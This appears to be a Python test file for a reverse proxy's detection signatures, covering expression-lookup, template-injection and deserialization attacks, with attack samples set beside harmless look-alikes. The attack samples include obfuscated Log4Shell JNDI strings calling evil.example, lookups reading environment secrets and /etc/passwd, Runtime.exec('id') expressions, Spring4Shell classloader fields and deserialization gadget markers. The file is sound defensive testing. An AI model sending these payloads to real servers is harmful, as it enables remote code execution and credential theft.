"""Lookups, expressions and serialized objects; and templates, code and Base64 that people send."""

from __future__ import annotations

from collections.abc import Mapping

import pytest
from hypothesis import given
from hypothesis import strategies as st

from revproxy.filters.inspect.packs.lookups import LOOKUPS
from revproxy.filters.inspect.subject import Subject
from revproxy.filters.inspect.value import Part, Value
from revproxy.testing import exchange

from . import Samples, check_pack, is_found


def name(text: str) -> Value:
    return Value(Part.NAME, text, text)


def agent(text: str) -> Value:
    return Value(Part.USER_AGENT, "user-agent", text)


def field(text: str) -> Value:
    return Value(Part.FIELD, "x-api-version", text)


def path(text: str) -> Value:
    return Value(Part.PATH, "", text)


def with_field(name: str) -> Subject:
    return Subject(exchange("POST", "/functionRouter", headers={name: "x"}))


SAMPLES: Mapping[str, Samples] = {
    "lookup-01": Samples(
        (
            "${jndi:ldap://evil.example/a}",
            agent("${jndi:rmi://evil.example/a}"),
            "%24%7Bjndi%3Adns%3A%2F%2Fevil.example%7D",
            "${${lower:j}ndi:ldap://evil.example}",
            "${jndi:${lower:l}${lower:d}ap://evil}",
            path("/${jndi:ldap://127.0.0.1#evil.example/a}"),
            field("${\\u006a\\u006e\\u0064\\u0069:ldap://x}"),
            Value(Part.TARGET, "", "/?q=%2524%257Bjndi:iiop://x%257D"),
        ),
        (
            "JNDI: the Java Naming and Directory Interface",
            "java:comp/env/jdbc/db by jndi",
            "${JNDI_HOME}/bin",
            "ldap://directory.example/ou=people",
            "see jndi: lookups",
            "${ldap_host:-localhost}",
        ),
    ),
    "lookup-02": Samples(
        (
            "${${::-j}${::-n}${::-d}${::-i}:x}",
            "${${env:NaN:-j}ndi${env:NaN:-:}x}",
            "${lower:j}",
            "${j${k8s:k5:-ND}i:x}",
            "${${date:'j'}ndi}",
            field("${${what:ever:-j}${some:thing:-n}di}"),
            "${base64:JHtqbmRpOmxkYXA6Ly94fQ==}",
        ),
        (
            "${HOME:-/root} and ${1:-n}",
            "`${a ? `${b}` : c}`",
            "${API_URL:http://localhost:8080}",
            "${a}${b}${c}",
            "${name,,} ${x:1:2}",
            "${server.host}:${server.port}",
        ),
    ),
    "lookup-03": Samples(
        (
            agent("${env:AWS_SECRET_ACCESS_KEY}"),
            field("${sys:java.version}"),
            path("/x/${ctx:loginId}"),
            agent("Mozilla ${java:version}"),
            field("%24%7Bmain:0%7D"),
            field("${hostName}"),
            name("${env:PATH}"),
        ),
        (
            agent("Mozilla/5.0 (env: x) {sys: y}"),
            field("$env:PATH"),
            path("/env:x"),
            "${env:PATH}",
            field("env={java: 1}"),
            field("${version}"),
        ),
    ),
    "lookup-04": Samples(
        (
            "${main:0}",
            "${sys:user.name}",
            "a-${java:os}",
            "x${bundle:application:spring.datasource.password}",
            "${ctx:loginId:-x}",
            "id=${spring:datasource.password}",
        ),
        (
            "in the console write ${env:PATH} for it",
            "$env:PATH",
            "${PATH}",
            "${env}",
            "${environment:dev}",
            "{env: 'x', sys: 'y'}",
            "${env:HOME}",
        ),
    ),
    "lookup-05": Samples(
        (
            "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
            "${dns:address|evil.example}",
            "${url:UTF-8:http://evil.example}",
            field("${file:utf-8:/etc/passwd}"),
            "%24%7Bconst:java.awt.event.KeyEvent.VK_ESCAPE%7D",
            "${xml:/etc/x.xml:/a/b}",
            "${base64Decoder:eA==}",
        ),
        (
            "${url}",
            "${file%.txt}",
            "${script}",
            "const x = `${url}:8080`",
            "${dns:-8.8.8.8}",
            "url: ${base}/x",
        ),
    ),
    "lookup-06": Samples(
        (
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "#{session.setAttribute('a',''.getClass())}",
            "%{#context['xwork']}",
            "*{T(java.lang.System).getenv()}",
            "${pageContext.request.getSession()}",
            "%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29%29%7D",
            path("/%{(#_memberAccess=1)}"),
        ),
        (
            "Runtime.getRuntime().exec(cmd);",
            "class A { java.io.File f; }",
            "${session} and #{user.name}",
            'String s = "${name}"; x.getClass();',
            "#{t('class')}",
            "@{~/Views/Home.cshtml}",
        ),
    ),
    "lookup-07": Samples(
        (
            "#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS",
            "@java.lang.Runtime@getRuntime().exec('id')",
            "redirect:${#a=1}",
            name("('#_memberAccess.allowStaticMethodAccess')(x)"),
            field("%{(#nike='multipart/form-data')}"),
            "#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']",
        ),
        (
            "#context of the talk",
            "mail bob@java.lang.example",
            "redirect: /home",
            "(#1 = best)",
            "#session-3",
            "action: {x}",
            "method:${method} path:${path}",
        ),
    ),
    "lookup-08": Samples(
        (
            "''.getClass().forName('java.lang.Runtime')",
            '"".class.forName("x")',
            "T(java.lang.Runtime).getRuntime()",
            "(new javax.script.ScriptEngineManager())",
            "\\u0027+{Class.forName(\\u0027x\\u0027)}",
            "x.getClass().getClassLoader().loadClass('a').newInstance()",
        ),
        (
            "obj.getClass().getName()",
            "Class.forName(driver);",
            "new javax.script.ScriptEngineManager();",
            "t (java) or c",
            "MyType.class.getSimpleName()",
            "import java.lang.reflect.Method;",
        ),
    ),
    "lookup-09": Samples(
        (
            "${7*7}",
            "#{7*7}",
            "%{8 * 8}",
            "*{1-1}",
            "${{7*7}}",
            "x ${1337*1337}",
            "#{'a'.concat('b')}",
        ),
        (
            "costs ${60 * 60} s",
            "{7*7}",
            "$(7*7)",
            "#{a * b}",
            "${a*2}",
            "50%{2}",
            "7*7",
        ),
    ),
    "lookup-10": Samples(
        (
            name("class.module.classLoader.resources.context.parent.pipeline.first.pattern"),
            name("class.classLoader.URLs[0]"),
            name("class['classLoader']"),
            name("user.class.module.classLoader.x"),
            name("class.protectionDomain.codeSource"),
            Value(Part.TARGET, "", "/?class%2Emodule%2EclassLoader.x=1"),
        ),
        (
            name("class"),
            name("class.name"),
            name("className"),
            name("modules.class.teacher"),
            name("subclass.loader"),
            name("css.class.module"),
        ),
    ),
    "lookup-11": Samples(
        (
            "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
            "a=1&class.classLoader.x=2",
            "class.classLoader",
            "class[module]classLoader",
            path("/a;class.module.classLoader.x"),
            "class['classLoader'].x",
        ),
        (
            "this.class.classLoader.getResource('x')",
            "Foo::class.java.classLoader",
            "Foo.class.getClassLoader()",
            "class loader of modules",
            "a CSS class.module",
            "import x.ClassLoader;",
        ),
    ),
    "lookup-12": Samples(
        (
            "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==",
            "aced00057372001176a6176612e7574696c",
            "%ac%ed%00%05sr",
            Value(Part.COOKIE, "s", "rO0ABXNyAA"),
            field("application/x-java-serialized-object"),
            "data=rO0ABQ==",
        ),
        (
            "iVBORw0KGgorO0ABXQAAAA",
            "aced the exam",
            "faced0005a",
            "H4sIAAAAAAAAA8tIzcnJBwCGphA2BQAAAA==",
            "application/json",
            "ro0 ab",
        ),
    ),
    "lookup-13": Samples(
        (
            '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://x"}',
            "com.sun.rowset.JdbcRowSetImpl",
            '["org.springframework.context.support.ClassPathXmlApplicationContext","http://x"]',
            "!!javax.script.ScriptEngineManager [x]",
            '{"@type":"java.lang.Class","val":"x"}',
            "Lcom.sun.rowset.JdbcRowSetImpl;",
            "java.net.Inet4Address",
        ),
        (
            '{"@type": "Person", "name": "Bob"}',
            "import java.util.PriorityQueue;",
            "I use com.zaxxer.hikari for pools",
            "java.lang.Class is a class",
            '{"@context":"https://schema.org","@type":"Article"}',
            "new java.util.PriorityQueue<>()",
            "org.apache.logging.log4j.core.appender.RollingFileAppender is slow",
            "com.sun.jndi.ldap.LdapCtx in a thread dump",
        ),
    ),
    "lookup-14": Samples(
        (
            '<java><object class="java.lang.ProcessBuilder">',
            '<object class="java.lang.Runtime"/>',
            '<void method="start"/>',
            "<java.util.PriorityQueue serialization='x'>",
            "<dynamic-proxy><interface>a</interface>",
            '<handler class="java.beans.EventHandler">',
            "<sorted-set><string>a</string>",
        ),
        (
            '<object class="player" data="x.swf"></object>',
            "<java>code</java>",
            "List<java.lang.String> x",
            '<div class="java">x</div>',
            "<string>a</string>",
            "<void> returns nothing",
        ),
    ),
    "lookup-15": Samples(
        (
            'O:8:"stdClass":0:{}',
            'a:1:{i:0;O:7:"Example":1:{s:1:"a";s:1:"b";}}',
            'C:11:"ArrayObject":37:{x}',
            'O:+4:"Evil":1:{}',
            "phar://uploads/a.jpg",
            "Tzo4OiJzdGRDbGFzcyI6MDp7fQ==",
            Value(Part.COOKIE, "u", "O%3A8%3A%22stdClass%22%3A0%3A%7B%7D"),
        ),
        (
            'a:2:{s:4:"name";s:3:"Bob";s:3:"age";i:5;}',
            'O: 8: "x"',
            "12:30:45",
            'C:"Program Files"',
            "iVBORTzo4AAAAAAAA",
            "Video: 8:15",
        ),
    ),
    "lookup-16": Samples(
        (
            '!!python/object/apply:os.system ["id"]',
            "!!python/name:os.system",
            "cos\nsystem\n(S'id'\ntR.",
            '{"py/object": "os.system"}',
            "gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVt",
            "c__builtin__\neval\n(S'1'\ntR.",
            "x: !!python/object/new:type",
        ),
        (
            "!!python is great!!",
            "py/object.py",
            "import os; os.system('x')",
            "cos system of axes",
            "c os  systems",
            "gASVabcdefgh",
        ),
    ),
    "lookup-17": Samples(
        (
            name("py/object"),
            name("a.b.py/reduce"),
            name("json_class"),
            name("data.$type"),
            name("^o"),
            name("x._$$nd_func$$_"),
        ),
        (
            name("py"),
            name("object"),
            name("jsonclass"),
            name("type"),
            name("$types"),
            name("content.type"),
        ),
    ),
    "lookup-18": Samples(
        (
            "--- !ruby/object:Gem::Installer",
            "!ruby/hash:ActionController::Parameters",
            '{"json_class":"Gem::Requirement"}',
            '{"^o":"Object"}',
            "Gem::SpecFetcher",
            "x: !ruby/regexp /a/",
        ),
        (
            "#!ruby/bin",
            "Wow!ruby is nice",
            "a gem: installer",
            "class Foo < Gem::Specification",
            '{"class": "json"}',
            "#!/usr/bin/env ruby",
            "ActiveSupport::DeprecationException on boot",
            "actionpack (7.1) ActionDispatch::Routing::RouteSet#call",
            "no such method for Gem::Requirement in setup",
        ),
    ),
    "lookup-19": Samples(
        (
            '{"rce":"_$$ND_FUNC$$_function (){}()"}',
            "_$$ND_FUNC$$_",
            '{"__js_function":"function(){}"}',
            "!!js/function 'x'",
            '{"_ctor":"Foo"}',
            "a: !!js/regexp /x/",
        ),
        (
            "function () {}",
            "$$_",
            "!!js is fun",
            "_ctor(x)",
            "js_function: x",
            "const f = _func;",
        ),
    ),
    "lookup-20": Samples(
        (
            "AAEAAAD/////AQAAAAAAAAAMAgAAAE",
            "/wEyxwkAAQAAAP////8BAAAAAAAAAAwCAAAASVN5c3RlbS",
            '{"$type":"System.IO.FileInfo, System.IO.FileSystem","fileName":"x"}',
            '<ObjectDataProvider MethodName="Start">',
            "System.Security.Principal.WindowsIdentity, mscorlib",
            "TypeConfuseDelegate",
        ),
        (
            "/wEPDwUKMTY1NDU2MTA1MmRkZQ==",
            "AAEAAAACAAAAAA",
            "using System.Diagnostics;",
            '{"$type": "text"}',
            "System.Data.DataSet ds = new DataSet();",
            "an object data provider",
        ),
    ),
    "lookup-21": Samples(
        (
            "rmi://evil.example/a",
            "ldap://evil.example:1389/a",
            "corbaname::evil.example",
            "ldaps://evil.example/cn=x",
            "iiop://evil.example",
            "jnp://evil:1099",
        ),
        (
            "https://example.com/rmi",
            "see ldap://directory",
            "RMI: remote calls",
            "ldap",
            "t3 is a terminal",
            "mailto:a@b",
        ),
    ),
    "lookup-22": Samples(
        (
            with_field("spring.cloud.function.routing-expression"),
            with_field("Spring.Cloud.Function.Routing-Expression"),
            with_field("SPRING.CLOUD.FUNCTION.DEFINITION"),
            with_field("class.module.classLoader.URLs"),
            with_field("x-class.module.classLoader"),
        ),
        (
            with_field("X-Spring"),
            with_field("X-Function"),
            with_field("Accept"),
            with_field("X-Class"),
            with_field("X-Cloud-Trace-Context"),
        ),
    ),
    "lookup-23": Samples(
        (
            "see ${env:PATH} there",
            "${a${b}}",
            "#{user.name}",
            "<%= x %>",
            "@{a}",
            "%{x}",
        ),
        (
            "${name}",
            "$PATH",
            "{{ x }}",
            "{a}",
            "# {a}",
            "<% x %>",
        ),
    ),
    "lookup-24": Samples(
        (
            'a:1:{s:1:"a";}',
            "BAhbCGMVR2VtOjpTcGVj",
            "H4sIAAAAAAAAA8tIzcnJ",
            "java.util.List",
            "javax.swing.JFrame",
            'x;s:5:"abcde"',
        ),
        ("a: 1", "bah humbug", "javascript", "Java", "sun.example.com", "time 5:30"),
    ),
    "lookup-25": Samples(
        ("${a}", "{{a}}", "#a = 1", "$(x)", "wow!!", "['a']"),
        ("$5", "{a}", "#tag", "(x)", "wow!", "[a]"),
    ),
    "lookup-26": Samples(
        (
            "${env:PATH}",
            "id=${env:AWS_SECRET_ACCESS_KEY:-none}",
            Value(Part.COOKIE, "s", "x${env:DB_PASSWORD}"),
            "%24%7Benv%3AUSER%7D",
            "a.${env:HOSTNAME}-x",
        ),
        (
            "in the console write ${env:PATH} for it",
            "$env:PATH",
            "${env}",
            "${environment:dev}",
            "{env: 'x'}",
        ),
    ),
}


def test_pack() -> None:
    """S-60: each signature is found in what a server would evaluate or bring to life, and not in what people write."""
    check_pack(LOOKUPS, SAMPLES)


@given(
    st.lists(
        st.sampled_from(["{}", "${{lower:{}}}", "${{upper:{}}}", "${{::-{}}}", "${{env:NO:-{}}}", "${{date:'{}'}}"]),
        min_size=4,
        max_size=4,
    ),
    st.sampled_from([Part.VALUE, Part.NAME, Part.PATH, Part.USER_AGENT, Part.REFERER, Part.FIELD, Part.COOKIE]),
)
def test_nested(disguises: list[str], part: Part) -> None:
    """S-60: a lookup in JNDI is found at level 1, wherever it stands, and however its letters are written."""
    letters = [disguise.format(letter) for disguise, letter in zip(disguises, "jndi", strict=True)]
    attack = Value(part, "q", "${" + "".join(letters) + ":ldap://evil.example/a}")
    assert any(is_found(each, attack) for each in LOOKUPS if each.paranoia == 1 and each.id != "lookup-22")


@pytest.mark.parametrize(
    "text",
    [
        "const s = `${a} of ${b.c} costs ${60 * 60} ${x ? `${y}` : ''}`;",
        'echo "${HOME:-/root}" ${1:-y} ${x%.txt} $(ls) ${#array[@]} ${array[@]}',
        "spring.datasource.url=${DB_URL:jdbc:h2:mem:x}\nserver.port=${PORT:8080}",
        'resource "a" "b" { name = "${var.name}-${local.env}" }',
        "In PowerShell: Get-ChildItem ${env:ProgramFiles(x86)}",
        '<p th:text="${user.name}">#{greeting}</p> @{/home} *{name}',
        'Runtime.getRuntime().exec("ls"); Class.forName(driver); x.getClass().getName();',
        "import java.util.PriorityQueue; import javax.script.ScriptEngineManager;",
        '{"@context": "https://schema.org", "@type": "Person", "$type": "x"}',
        'a:2:{s:4:"name";s:3:"Bob";s:3:"age";i:5;}',
        'puts "Hello, #{name}" if user.class == String',
        "/wEPDwUKMTY1NDU2MTA1MmRkZQ==",
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
        "LDAP servers such as ldap://directory.example are found by JNDI, RMI or DNS.",
    ],
)
def test_ordinary_text(text: str) -> None:
    """S-60: at level 1 nothing is found in templates, code, settings and identifiers."""
    found = [each.id for each in LOOKUPS if each.paranoia == 1 and each.id != "lookup-22" and is_found(each, text)]
    assert found == []


@given(st.text(st.characters(codec="utf-8")), st.sampled_from([Part.VALUE, Part.NAME, Part.PATH, Part.FIELD]))
def test_any_text(text: str, part: Part) -> None:
    """S-60: no text is too odd to be looked at."""
    for each in LOOKUPS:
        if each.id != "lookup-22":
            is_found(each, Value(part, "q", text))
